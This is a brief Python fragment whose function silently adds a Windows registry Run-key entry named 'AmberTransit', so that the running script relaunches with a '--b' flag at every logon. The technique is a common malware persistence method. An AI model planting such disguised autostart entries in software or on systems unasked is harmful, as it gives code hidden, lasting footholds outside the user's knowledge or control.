import os, sys
def persist():
    import winreg as w
    k = w.OpenKey(w.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, w.KEY_SET_VALUE)
    try:
        x = os.path.abspath(__file__)
        w.SetValueEx(k, "AmberTransit", 0, w.REG_SZ, f'"{sys.executable}" "{x}" --b')
    finally:
        w.CloseKey(k)
